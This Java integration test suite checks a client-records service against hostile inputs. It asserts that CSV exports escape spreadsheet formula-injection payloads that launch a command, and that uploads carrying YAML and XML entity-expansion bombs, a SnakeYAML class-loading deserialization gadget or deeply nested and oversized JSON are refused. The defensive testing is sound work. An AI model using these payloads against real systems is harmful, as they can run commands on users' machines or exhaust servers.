package dev.kartoteka.standalone.attack;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.kartoteka.standalone.attack.Attacked.Target;
import dev.kartoteka.standalone.login.Caller;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Attack 23: files that grow when they are read, and cells that a spreadsheet would run. Sizes unpacked: UploadedFileTest. */
@ExtendWith(Attacked.class)
class Attack23BombsAndFormulasIT {

    private final Target target;

    Attack23BombsAndFormulasIT(Target target) {
        this.target = target;
    }

    @Test
    void aFormulaInANameIsEscapedOnExport() {
        Caller admin = target.admin();
        admin.post(
                "/api/v1/clients",
                Map.of("id", "client-formula", "kind", "ORGANISATION", "name", "=cmd|' /C calc'!A0"));
        await().until(() -> admin.get("/api/v1/clients/client-formula?minVersion=0&wait=5000")
                        .status()
                == 200);

        String csv = await().until(() -> admin.get("/api/v1/exports/clients").text(), text -> text.contains("=cmd"));

        assertThat(csv).contains("'=cmd|").doesNotContain(",=cmd").doesNotContain(",\"=cmd");
    }

    /** A person's own data go out as CSV too. */
    @Test
    void norIsItAFormulaInAPersonsData() {
        Caller admin = target.as("formulas", "ADMIN", "AUDITOR");
        String formula = "@SUM(1+1)*cmd|' /C calc'!A0";
        admin.post("/api/v1/clients", Map.of("id", "client-sum", "kind", "INDIVIDUAL", "name", formula));
        await().until(() -> admin.get("/api/v1/clients/client-sum").status() == 200);

        for (String path : List.of("/api/v1/subjects/client-sum/export", "/api/v1/audit/events?subject=client-sum")) {
            String csv = await().until(
                            () -> admin.get(path, "Accept", "text/csv").text(), text -> text.contains("client-sum"));
            assertThat(csv).as(path).doesNotContain(",@SUM").doesNotContain(",\"@SUM");
        }
        assertThat(admin.get("/api/v1/subjects/client-sum/export", "Accept", "text/csv")
                        .text())
                .contains("'@SUM");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                // a billion laughs, as YAML says it
                "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
                        + "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\nname: [*d,*d,*d,*d,*d,*d,*d,*d,*d]",
                "name: &a [*a]",
                "name: &a {x: *a}",
                "? &a [*a]\n: x",
                "name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]",
                "<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;\">]><x>&b;</x>"
            })
    void aMappingThatGrowsIsRefused(String mapping) {
        Caller.Reply answer = upload("rows.ndjson", mapping, "{\"a\":1}");

        assertThat(answer.status()).as(answer.text()).isEqualTo(400);
        assertThat(answer.code()).isEqualTo("UNKNOWN_MAPPING");
    }

    @Test
    void aRowThatIsDeepOrLongIsRejected() {
        String deep = "{\"path\":\"clients\",\"key\":\"1\",\"body\":" + "{\"a\":".repeat(20_000) + "1"
                + "}".repeat(20_000) + "}";
        String longNumber = "{\"path\":\"deals\",\"key\":\"2\",\"body\":{\"title\":\"x\",\"amount\":{\"amount\":"
                + "9".repeat(100_000) + ",\"currency\":\"EUR\"}}}";
        String exponent = "{\"path\":\"deals\",\"key\":\"3\",\"body\":{\"title\":\"x\",\"amount\":{\"amount\":"
                + "1e999999999,\"currency\":\"EUR\"}}}";

        Caller.Reply taken = upload("rows.ndjson", "commands", deep + "\n" + longNumber + "\n" + exponent);

        if (taken.status() == 202) {
            Caller.Reply status = await().until(
                            () -> target.admin().get(taken.header("Location")),
                            told -> !told.json().get("finishedAt").isNull());
            assertThat(status.json().get("rejected").asInt()).as(status.text()).isEqualTo(3);
        } else {
            assertThat(taken.status()).as(taken.text()).isEqualTo(400);
        }
    }

    @Test
    void soIsABodyThatIs() {
        String deep = "{\"kind\":" + "[".repeat(100_000) + "]".repeat(100_000) + "}";
        String huge = "{\"kind\":\"ORGANISATION\",\"name\":\"" + "x".repeat(2 << 20) + "\"}";
        String exponent = "{\"title\":\"x\",\"amount\":{\"amount\":1e999999999,\"currency\":\"EUR\"}}";

        assertThat(target.admin().post("/api/v1/clients", deep).status()).isEqualTo(400);
        assertThat(target.admin().post("/api/v1/clients", huge).status()).isEqualTo(413);
        assertThat(target.admin().post("/api/v1/deals", exponent).status()).isBetween(400, 422);
    }

    private Caller.Reply upload(String name, String mapping, String content) {
        return target.admin().postMultipart("/api/v1/imports", Forms.upload(name, mapping, content), Forms.BOUNDARY);
    }
}
